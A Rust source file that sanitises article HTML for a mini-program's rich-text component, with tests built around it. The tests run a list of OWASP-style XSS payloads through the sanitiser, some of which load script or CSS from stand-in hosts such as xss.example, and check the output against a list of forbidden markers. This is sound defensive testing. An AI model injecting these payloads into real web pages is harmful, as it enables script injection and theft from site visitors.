//! Article bodies are rich text shown by the mini-program's `rich-text` component: this keeps
//! the tags that component renders and nothing that runs or fetches on its own. No scripts,
//! no event handlers, no styles (a `url()` in a style fetches), no frames, no forms; images
//! stay, with http(s) sources only. Everything an editor or a feed writes goes through here
//! before it is stored.

use std::collections::{HashMap, HashSet};

/// The tags `rich-text` renders (its documented list), less the ones with no use in an article.
const TAGS: &[&str] = &[
    "a",
    "abbr",
    "b",
    "blockquote",
    "br",
    "caption",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "div",
    "dl",
    "dt",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "ins",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "section",
    "small",
    "span",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
];

pub fn sanitise(html: &str) -> String {
    let tags: HashSet<&str> = TAGS.iter().copied().collect();
    let mut attributes: HashMap<&str, HashSet<&str>> = HashMap::new();
    attributes.insert("img", ["src", "alt", "width", "height"].into());
    attributes.insert("a", ["href", "title"].into());
    attributes.insert("td", ["colspan", "rowspan"].into());
    attributes.insert("th", ["colspan", "rowspan"].into());
    attributes.insert("col", ["span"].into());
    ammonia::Builder::empty()
        .tags(tags)
        .tag_attributes(attributes)
        .url_schemes(["http", "https"].into())
        // Relative URLs mean nothing inside the mini-program: only absolute http(s) ones stay.
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer"))
        // Whatever sits inside a removed <script> or <style> goes with it.
        .clean_content_tags(["script", "style", "iframe", "object", "embed", "template"].into())
        .clean(html)
        .to_string()
}

/// The text of some HTML, for summaries made from a body.
pub fn text_of(html: &str) -> String {
    let bare = ammonia::Builder::empty().clean(html).to_string();
    bare.replace("&nbsp;", " ")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&amp;", "&")
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Payloads from the OWASP XSS filter evasion cheat sheet and friends: none may leave a
    /// script, a handler, a javascript: or data: URL, a style or a frame.
    const XSS: &[&str] = &[
        "<script>alert(1)</script>",
        "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=javascript:alert('XSS')>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        "<IMG onerror=\"alert(1)\" src=x>",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        "<BODY ONLOAD=alert('XSS')>",
        "<svg/onload=alert('XSS')>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<IFRAME SRC=\"http://evil.example/\"></IFRAME>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
        "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\" AllowScriptAccess=\"always\"></EMBED>",
        "<form action=\"http://evil.example\"><input type=submit></form>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">",
        "<p><b onclick=alert(1)>bold</b></p>",
        "<base href=\"javascript:alert('XSS');//\">",
    ];

    #[test]
    fn no_xss_payload_survives() {
        for payload in XSS {
            let clean = sanitise(payload).to_ascii_lowercase();
            for bad in [
                "<script",
                "javascript:",
                "onerror",
                "onload",
                "onmouseover",
                "onclick",
                "<iframe",
                "<style",
                "style=",
                "data:",
                "<object",
                "<embed",
                "<form",
                "<input",
                "<meta",
                "<base",
                "<svg",
                "background=",
            ] {
                assert!(!clean.contains(bad), "{payload:?} left {bad:?}: {clean:?}");
            }
        }
    }

    #[test]
    fn what_rich_text_shows_is_kept() {
        let html = "<h2>依法逐级走访</h2><p>信访人应当<strong>逐级</strong>提出。<br>\
            <img src=\"https://example.gov.cn/a.png\" alt=\"流程图\" width=\"300\"></p>\
            <table><tr><td colspan=\"2\">表格</td></tr></table>";
        let clean = sanitise(html);
        for kept in [
            "<h2>",
            "<strong>逐级</strong>",
            "<br>",
            "src=\"https://example.gov.cn/a.png\"",
            "alt=\"流程图\"",
            "colspan=\"2\"",
        ] {
            assert!(clean.contains(kept), "{kept} in {clean}");
        }
        assert_eq!(text_of("<p>甲 &amp; 乙</p><p>丙</p>"), "甲 & 乙丙");
    }
}
